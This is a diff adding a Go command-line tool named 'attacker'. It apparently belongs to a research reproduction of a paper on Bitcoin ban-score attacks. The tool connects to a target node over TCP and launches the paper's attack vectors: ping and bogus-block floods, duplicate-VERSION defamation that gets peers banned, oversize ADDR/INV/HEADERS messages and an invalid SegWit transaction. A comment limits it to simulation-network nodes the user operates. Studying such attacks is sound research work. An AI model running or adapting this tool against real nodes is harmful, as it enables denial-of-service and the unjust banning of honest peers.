@@ -1,0 +1,100 @@
+// Command attacker launches the paper's attack vectors against a btcnode
+// instance over real TCP.
+//
+// Usage:
+//
+//	attacker -target host:8333 -vector ping-flood [-count 1000] [-delay 0]
+//	attacker -target host:8333 -vector block-flood [-duration 5s]
+//	attacker -target host:8333 -vector version-defame [-count 200]
+//	attacker -target host:8333 -vector oversize-addr|oversize-inv|oversize-headers|segwit-tx
+//
+// Only ever aim this at nodes you operate. The attacker never joins a real
+// cryptocurrency network: it speaks the reproduction's simulation magic.
+package main
+
+import (
+	"flag"
+	"fmt"
+	"net"
+	"os"
+	"time"
+
+	"banscore/internal/attack"
+	"banscore/internal/blockchain"
+	"banscore/internal/wire"
+)
+
+func main() {
+	if err := run(); err != nil {
+		fmt.Fprintln(os.Stderr, "attacker:", err)
+		os.Exit(1)
+	}
+}
+
+func run() error {
+	target := flag.String("target", "127.0.0.1:8333", "victim node address")
+	vector := flag.String("vector", "ping-flood", "attack vector")
+	count := flag.Uint64("count", 1000, "messages to send (count-bounded vectors)")
+	duration := flag.Duration("duration", 5*time.Second, "flood duration (duration-bounded vectors)")
+	delay := flag.Duration("delay", 0, "inter-message delay")
+	flag.Parse()
+
+	conn, err := net.Dial("tcp", *target)
+	if err != nil {
+		return fmt.Errorf("dial: %w", err)
+	}
+	s := attack.NewSession(conn, wire.SimNet)
+	defer s.Close()
+	if err := s.Handshake(10 * time.Second); err != nil {
+		return err
+	}
+	fmt.Printf("session established from %s to %s\n", s.LocalAddr(), *target)
+
+	forge := attack.NewForge(blockchain.SimNetParams())
+	switch *vector {
+	case "ping-flood":
+		res := attack.Flood(s, func() wire.Message { return forge.Ping() },
+			attack.FloodOptions{Count: *count, Delay: *delay})
+		report("PING flood (no ban rule exists)", res)
+	case "block-flood":
+		payload := attack.EncodeBlock(forge.BogusBlock(2000))
+		res := attack.FloodRaw(s, wire.CmdBlock, payload,
+			attack.FloodOptions{Duration: *duration, Delay: *delay})
+		report("bogus-BLOCK flood (checksum bypasses misbehavior tracking)", res)
+	case "version-defame":
+		res := attack.Flood(s, func() wire.Message { return s.Version() },
+			attack.FloodOptions{Count: *count, Delay: *delay})
+		report("duplicate-VERSION defamation (+1 each, ban at 100)", res)
+		if res.Err != nil {
+			fmt.Println("connection dropped: the identifier is now banned for 24h")
+		}
+	case "oversize-addr":
+		return sendOne(s, forge.OversizeAddr(), "oversize ADDR (+20)")
+	case "oversize-inv":
+		return sendOne(s, forge.OversizeInv(), "oversize INV (+20)")
+	case "oversize-headers":
+		return sendOne(s, forge.OversizeHeaders(), "oversize HEADERS (+20)")
+	case "segwit-tx":
+		return sendOne(s, forge.InvalidSegWitTx(), "invalid-SegWit TX (+100, instant ban)")
+	default:
+		return fmt.Errorf("unknown vector %q", *vector)
+	}
+	return nil
+}
+
+func sendOne(s *attack.Session, msg wire.Message, what string) error {
+	if err := s.Send(msg); err != nil {
+		return err
+	}
+	fmt.Printf("sent %s\n", what)
+	return nil
+}
+
+func report(what string, res attack.FloodResult) {
+	fmt.Printf("%s: sent %d messages in %v (%.0f msg/s)", what, res.Sent,
+		res.Elapsed.Round(time.Millisecond), res.Rate())
+	if res.Err != nil {
+		fmt.Printf(" — ended by: %v", res.Err)
+	}
+	fmt.Println()
+}
